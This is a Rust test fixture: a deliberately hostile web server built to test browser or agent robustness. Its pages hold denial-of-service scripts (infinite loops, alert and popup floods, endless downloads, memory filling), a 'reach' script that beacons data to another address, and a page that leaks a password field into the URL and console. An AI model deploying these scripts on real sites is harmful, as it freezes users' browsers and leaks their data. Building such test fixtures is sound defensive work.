//! A hostile site with a page for each kind of attack. Each page has the heading "Home" for runs to read.

use std::convert::Infallible;
use std::net::SocketAddr;

use axum::Router;
use axum::body::{Body, Bytes};
use axum::extract::{Path, State};
use axum::http::{StatusCode, header};
use axum::response::{Html, IntoResponse, Redirect, Response};
use axum::routing::get;
use futures::stream;

/// The site's pages.
pub(crate) const PAGES: [&str; 14] = [
    "loop",
    "late-loop",
    "alerts",
    "popups",
    "growing",
    "big",
    "frames",
    "sockets",
    "reload",
    "redirect",
    "endless",
    "silent",
    "download",
    "memory",
];

/// Shows the text of its field everywhere.
pub(crate) const ECHO: &str = "echo";
/// Tries to reach the address of [`router`] in every way.
pub(crate) const REACH: &str = "reach";

/// [`REACH`] tries to reach `elsewhere`.
pub(crate) fn router(elsewhere: SocketAddr) -> Router {
    Router::new()
        .route("/redirect", get(|| async { Redirect::to("/redirect") }))
        .route("/endless", get(|| async { endless("text/html", "<p>more of it</p>") }))
        .route("/image", get(|| async { endless("image/png", "more of it") }))
        .route("/silent", get(std::future::pending::<String>))
        .route("/download", get(|| async { endless("application/octet-stream", "more of it") }))
        .route("/{page}", get(page))
        .with_state(elsewhere)
}

async fn page(Path(page): Path<String>, State(elsewhere): State<SocketAddr>) -> Response {
    let elsewhere = REACHING.replace("ELSEWHERE", &elsewhere.to_string());
    let script = match page.as_str() {
        "loop" => "for (;;);",
        "late-loop" => "onclick = () => { for (;;); }; setTimeout(() => { for (;;); }, 700)",
        "alerts" => "setInterval(() => alert('again'), 5); onclick = () => { while (confirm('again?')); }",
        "popups" => "onclick = () => { for (let i = 0; i < 30; i++) open('/popups?' + i) }",
        "growing" => "setInterval(() => document.body.append(document.createElement('p'), 'more'), 1)",
        "big" => "document.body.insertAdjacentHTML('beforeend', '<p>word <a href=#>link</a></p>'.repeat(20000))",
        "frames" => {
            "for (let i = 0; i < 20; i++) document.body.append(Object.assign(document.createElement('iframe'), { src: i % 2 ? '/loop' : '/image' }))"
        }
        "sockets" => "for (let i = 0; i < 1000; i++) fetch('/silent?' + i)",
        "reload" => "setTimeout(() => location.reload(), 30)",
        // Bounded, as the machine is not the service's alone.
        "memory" => "globalThis.kept = []; for (let i = 0; i < 40; i++) kept.push(new Uint8Array(4 << 20).fill(i))",
        ECHO => ECHOING,
        REACH => &elsewhere,
        _ => return StatusCode::NOT_FOUND.into_response(),
    };
    let field = if page == ECHO { "<label>Password <input type=password></label><p></p>" } else { "" };
    let body = format!("<h1>Home</h1>{field}<button>Go</button><a href=/image>Image</a><script>{script}</script>");
    Html(format!("<!doctype html><html lang=en><meta charset=utf-8><title>{page}</title><body>{body}")).into_response()
}

const ECHOING: &str = "const field = document.querySelector('input'); \
    field.oninput = () => { \
        document.title = document.querySelector('p').textContent = field.value; \
        history.replaceState(null, '', '?' + encodeURIComponent(field.value)); \
        console.log(field.value); }; \
    document.querySelector('button').onclick = () => alert(field.value)";

const REACHING: &str = "const at = '//ELSEWHERE/'; \
    const put = (name, fields) => document.body.append(Object.assign(document.createElement(name), fields)); \
    put('link', { rel: 'preconnect', href: at }); put('link', { rel: 'stylesheet', href: at }); \
    put('img', { src: at }); put('iframe', { src: at }); put('script', { src: at }); \
    fetch(at, { mode: 'no-cors' }).catch(() => {}); navigator.sendBeacon(at, 'all of it'); \
    new WebSocket('ws:' + at); new EventSource(at); \
    new Worker(URL.createObjectURL(new Blob([`fetch('http:${at}', { mode: 'no-cors' })`]))); \
    onclick = () => { open(at); location = at }";

/// An endless response of some megabytes a second at most, as both ends share a machine.
fn endless(kind: &'static str, piece: &'static str) -> Response {
    let begin = "<!doctype html><title>endless</title><h1>Home</h1>";
    let piece = Bytes::from(piece.repeat(1_000));
    let pieces = stream::unfold(Bytes::from(begin), move |next| {
        let piece = piece.clone();
        async move {
            tokio::time::sleep(std::time::Duration::from_millis(5)).await;
            Some((Ok::<_, Infallible>(next), piece))
        }
    });
    ([(header::CONTENT_TYPE, kind)], Body::from_stream(pieces)).into_response()
}
